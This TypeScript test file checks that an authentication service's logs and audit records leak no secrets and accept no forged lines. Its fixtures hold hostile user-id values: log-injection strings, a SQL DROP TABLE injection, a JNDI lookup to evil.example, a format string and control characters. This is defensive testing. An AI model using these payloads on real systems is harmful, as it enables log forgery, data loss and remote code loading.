/**
 * Logs and audits that hold what they were to protect, or lines that a stranger wrote. Seeds and codes have
 * been found in the logs of other products after an error, and a line feed in a user's name has forged an
 * entry. Here everything is done that is logged or audited, rightly and wrongly, at the most talkative
 * level; then every line and every event is searched.
 */
import { sql } from 'kysely';
import { startApplication, type TestApplication } from '../support/application.js';
import { enrol, scan } from '../support/authenticator.js';

/** User ids that would break a line, a terminal or an entry. */
const nasty = [
  'eve\n{"level":60,"msg":"forged"}',
  'eve\r\nforged',
  'eve\u001b[2J\u001b[31mforged',
  'eve\u2028forged',
  'eve\u0000forged',
  'eve"}{"level":60,"msg":"forged',
  "eve'; DROP TABLE factors; --",
  '${jndi:ldap://evil.example/forged}',
  '%s%n%p forged',
  'eve\u202eforged',
];
/** A code that nobody has, to see where a wrong one goes. */
const WRONG = '918273';
const BROUGHT = 'GEZDGNBVGY3TQOJQGEZDGNBVGY3TQOJQ';

let service: TestApplication;
let log: string;
let audit: string;
const words: string[] = [];

async function live() {
  const app = await enrol(service, 'ada');
  words.push(app.secret, app.code(), service.first.key);
  service.clock.advance(60);
  const path = '/v1/users/ada/verify';
  words.push(app.code());
  const headers = { 'idempotency-key': 'ada-1' };
  const { body } = await service.call('POST', path, { code: app.code() }, { headers });
  words.push(...(body.access_token as string).split('.'));
  await service.call('POST', path, { code: app.code() }, { headers });
  await service.call('POST', path, { code: WRONG });
  await service.call('POST', '/v1/users/ada/factors', { type: 'totp', secret: BROUGHT });
  words.push(BROUGHT);
  const proof = body.access_token as string;
  await service.call('POST', '/v1/users/ada/factors', { type: 'totp', proof });
}

async function misuse() {
  const pending = await scan(service, 'bob');
  words.push(pending.secret, pending.code(), WRONG);
  for (const kind of ['svg', 'png', 'txt'])
    await service.call('GET', `/v1/factors/${pending.factorId}/qr.${kind}`);
  await service.call('POST', `/v1/factors/${pending.factorId}/activate`, { code: WRONG });
  for (let n = 0; n < 7; n++) await service.call('POST', '/v1/users/bob/verify', { code: WRONG });
  const bodies = [
    `{"code":"${WRONG}"`,
    `{"code":"${WRONG}","code":"000000"}`,
    `{"code":"${WRONG}","__proto__":{}}`,
    `{"code":"${WRONG}","extra":"${pending.secret}"}`,
    `{"code":${WRONG}}`,
    `{"code":"${WRONG}","transaction":{"key":"${service.first.key}","a":"${'x'.repeat(5000)}"}}`,
    `code=${WRONG}`,
  ];
  for (const body of bodies) await service.call('POST', '/v1/users/bob/verify', body);
  await service.call('POST', '/v1/users/bob/verify', `code=${WRONG}`, {
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
  });
  await service.call('GET', `/v1/users/bob/factors?code=${WRONG}&key=${service.first.key}`);
  await service.call('GET', `/${service.first.key}/${WRONG}`);
  await service.call('GET', `/v1/audit?after=${WRONG}&api_key=${service.first.key}`);
  const nearly = `${service.first.key.slice(0, -1)}~`;
  words.push(nearly);
  await service.call('GET', '/v1/audit', undefined, { key: nearly });
  await service.call('GET', '/v1/audit', undefined, {
    headers: { cookie: `session=${WRONG}`, 'x-request-id': `${WRONG}\n`, referer: `/${WRONG}` },
  });
}

async function disturb() {
  for (const userId of nasty) {
    const path = `/v1/users/${encodeURIComponent(userId)}`;
    await service.call('POST', `${path}/verify`, { code: WRONG });
    await service.call('POST', `${path}/factors`, { type: 'totp', name: userId });
    await service.call('POST', `/v1/challenges`, { user_id: userId, type: 'totp' });
    await service.call('GET', `/${encodeURIComponent(userId)}`);
    const headers = { 'x-request-id': userId.replace(/[^\x20-\x7e]/g, ' '), traceparent: 'forged' };
    await service.call('GET', '/health/live', undefined, { headers });
  }
}

async function breakDown() {
  const app = await enrol(service, 'cat');
  service.clock.advance(60);
  words.push(app.secret, app.code());
  const { rows } = await sql<{ events: string }>`
    SELECT string_agg(t::text, E'\n') AS events FROM audit_events t`.execute(
    service.database.kysely,
  );
  audit = rows[0]?.events ?? '';
  const page = await service.call('GET', '/v1/audit');
  audit += page.text;
  // The database's own complaint repeats the row that it is about.
  await sql`ALTER TABLE audit_events ADD CHECK (user_id <> 'cat') NOT VALID`.execute(
    service.database.kysely,
  );
  for (const body of [{ code: app.code() }, { code: WRONG }]) {
    const answer = await service.call('POST', '/v1/users/cat/verify', body);
    expect(answer.status).toBe(500);
  }
  await service.call('POST', '/v1/users/cat/factors', { type: 'totp', secret: BROUGHT });
  await sql`UPDATE factors SET secret = decode('00', 'hex') WHERE user_id = 'cat'`.execute(
    service.database.kysely,
  );
  service.clock.advance(60);
  words.push(app.code());
  await service.call('POST', '/v1/users/cat/verify', { code: app.code() });
}

beforeAll(async () => {
  service = await startApplication({ environment: { WATCHWORD_LOG_LEVEL: 'trace' } });
  await live();
  await misuse();
  await disturb();
  await breakDown();
  log = service.logged.join('');
});
afterAll(() => service.close());

it('there is something to search', () => {
  expect(service.logged.length).toBeGreaterThan(100);
  expect(found(log, ['request failed', 'check constraint'])).toHaveLength(2);
  expect(new Set(words).size).toBeGreaterThan(12);
});

/** Which of the words stand in a text: what is searched is too long to be shown by a failing test. */
const found = (text: string, among: readonly string[]) =>
  among.filter((word) => text.includes(word));

it('S114: the log holds no secret, code, token or key', () => {
  expect(found(log, words)).toEqual([]);
});

it('S114, S116: the audit holds none either, but says what was decided', () => {
  expect(found(audit, words)).toEqual([]);
  const decisions = [
    'factor.enrolled',
    'factor.activated',
    'factor.activation_refused',
    'verification.approved',
    'verification.refused',
    'challenge.created',
    '"reason":"incorrect"',
    '"reason":"no_factor"',
    '"reason":"locked"',
  ];
  expect(found(audit, decisions)).toEqual(decisions);
});

it('S115: every line is one JSON object, written by the service alone', () => {
  for (const line of service.logged) {
    expect(line.endsWith('\n')).toBe(true);
    expect(line.slice(0, -1)).not.toMatch(/[\p{Cc}\u2028\u2029\u202e]/u);
    const entry = JSON.parse(line) as Record<string, unknown>;
    expect(entry).toMatchObject({ level: expect.any(Number), time: expect.any(Number) });
    expect(entry['msg']).not.toBe('forged');
  }
});

it('S115: what a stranger wrote is in no line at all', () => {
  expect(found(log, ['forged', 'jndi', 'evil.example', 'DROP TABLE'])).toEqual([]);
});

it('S114: nor are user ids, addresses or bodies', () => {
  const personal = ['/v1/users/ada', '/v1/users/bob', '"ada"', '"bob"', '127.0.0.1', 'otpauth'];
  // The database's own words about the row that it refused.
  personal.push('Failing row', ', cat,');
  expect(found(log, personal)).toEqual([]);
});
